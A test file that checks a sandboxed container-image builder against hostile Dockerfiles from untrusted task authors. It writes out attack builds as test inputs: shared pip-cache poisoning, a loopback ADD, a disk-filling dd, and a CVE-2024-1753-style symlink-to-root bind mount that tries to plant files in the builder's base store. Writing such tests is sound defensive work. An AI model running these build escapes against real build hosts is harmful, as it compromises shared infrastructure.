"""The Dockerfile forms a hostile task author tries beyond links and raw sockets (test_untrusted_tasks.py), each
built in the real box: a cache mount filled by one task's build and read by another's, a secret mount, `ADD` of a
URL on the host's loopback, and a build that writes more than the box's own file system holds."""

from __future__ import annotations

import os
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from opencode_env.sandbox.local.files.bounded_fs import loop_devices_available
from opencode_env.sandbox.local.images.base_image import build_base_image
from opencode_env.sandbox.local.images.build.box import DEFAULT_ROOT, BuildBox
from opencode_env.sandbox.local.images.build.builder import ImageBuilder, ImageBuildError
from tests.integration.test_images import busybox_image  # noqa: F401 (a fixture)
from tests.integration.test_untrusted_tasks import _LoopbackWitness, witness  # noqa: F401 (a fixture)

pytestmark = pytest.mark.timeout(600)


def _build(root: Path, name: str, dockerfile: str, builder: ImageBuilder | None = None) -> str:
    context = root / name / "environment"
    context.mkdir(parents=True)
    (context / "Dockerfile").write_text(dockerfile)
    return (builder or ImageBuilder()).build(context, name=name, timeout_s=600).ref


def test_a_cache_mount_one_tasks_build_fills_is_empty_for_the_next(tmp_path: Path) -> None:
    base, tag = build_base_image(), f"{os.getpid()}-{os.urandom(3).hex()}"
    mount = "--mount=type=cache,id=pip,target=/root/.cache/pip"
    _build(tmp_path, f"poisoner-{tag}", f"FROM {base}\nRUN {mount} echo 'import evil' > /root/.cache/pip/{tag}.py\n")
    # The victim's build fails if it sees the poisoner's file: it builds only when the cache starts empty.
    victim = f"FROM {base}\nRUN {mount} ls /root/.cache/pip && test ! -e /root/.cache/pip/{tag}.py\n"
    assert _build(tmp_path, f"victim-{tag}", victim).startswith("localhost/opencode-env-task/victim-")


def test_a_secret_mount_finds_no_secret(tmp_path: Path) -> None:
    dockerfile = f"FROM {build_base_image()}\nRUN --mount=type=secret,id=key,required=true cat /run/secrets/key\n"
    with pytest.raises(ImageBuildError, match="secret required but no secret with id key found"):
        _build(tmp_path, f"secret-{os.getpid()}", dockerfile)


def test_add_of_a_url_on_the_hosts_loopback_never_reaches_it(tmp_path: Path, witness: _LoopbackWitness) -> None:  # noqa: F811
    dockerfile = f"FROM {build_base_image()}\nADD http://127.0.0.1:{witness.port}/payload /payload\n"
    with pytest.raises(ImageBuildError, match="connection refused"):
        _build(tmp_path, f"add-url-{os.getpid()}", dockerfile)
    assert witness.connections == 0


def _tree(root: Path) -> dict[str, tuple[int, int]]:
    return {str(path.relative_to(root)): (path.lstat().st_size, path.lstat().st_mtime_ns) for path in root.rglob("*")}


def test_a_link_to_the_boxs_own_root_reaches_neither_a_base_store_nor_another_build(tmp_path: Path) -> None:
    """The CVE-2024-1753 form again, now aimed at the box itself: the build's bind of a link to `/` resolves in the
    view of podman's own call, which holds this build's directory and, read-only, its base image's store."""
    base, tag = build_base_image(), f"{os.getpid()}-{os.urandom(3).hex()}"
    _build(tmp_path, f"warm-{tag}", f"FROM {base}\nRUN true {tag}\n")  # the base's store exists from here on
    bases = BuildBox(DEFAULT_ROOT, "podman").data / "bases"
    before = _tree(bases)
    evil = textwrap.dedent(
        f"""\
        FROM {base} AS evil
        RUN ln -s / /boxroot
        FROM {base}
        RUN --mount=type=bind,from=evil,source=/boxroot,target=/h,rw \\
            ls /h/box > /seen; for store in /h/box/bases/*/storage; do echo {tag} > $store/poison-{tag}; done; \\
            touch /h/box/bases/poison-{tag}; test -z "$(ls /h/box/bases/*/storage/poison-{tag} 2>/dev/null)"
        RUN test "$(sort /seen | tr '\\n' ' ')" = "bases build conf tmp "
        """
    )
    _build(tmp_path, f"box-root-{tag}", evil)
    assert list(bases.rglob(f"poison-{tag}")) == []
    assert _tree(bases) == before


@pytest.fixture
def small_box() -> Iterator[Path]:
    """A box of its own beside the default one (every directory leading to a box is open to its unprivileged root:
    not under pytest's 0700 temporary directories)."""
    if not loop_devices_available():
        pytest.skip("needs loop devices and mkfs.ext4 (the box's storage is unbounded without them)")
    root = DEFAULT_ROOT.parent / f"test-box-{os.getpid()}-{os.urandom(3).hex()}"
    yield root
    BuildBox(root, "podman").remove()


def test_a_build_that_fills_the_box_fails_on_the_boxs_own_file_system(
    tmp_path: Path,
    small_box: Path,
    busybox_image: str,  # noqa: F811
) -> None:
    builder = ImageBuilder(box_root=small_box, box_disk_bytes=256 << 20)
    dockerfile = f"FROM {busybox_image}\nRUN busybox dd if=/dev/zero of=/fill bs=1M count=400\n"
    # ENOSPC in either spelling: the C library's (the RUN step's own tool) or Go's (podman writing its layer), as
    # whichever writer meets the full box first says it.
    with pytest.raises(ImageBuildError, match=r"(?i)no space left on device"):
        _build(tmp_path, f"fill-{os.getpid()}", dockerfile, builder)
    box = BuildBox(small_box, "podman")
    assert os.path.ismount(box.data)
    assert os.statvfs(box.data).f_blocks * os.statvfs(box.data).f_frsize <= 256 << 20
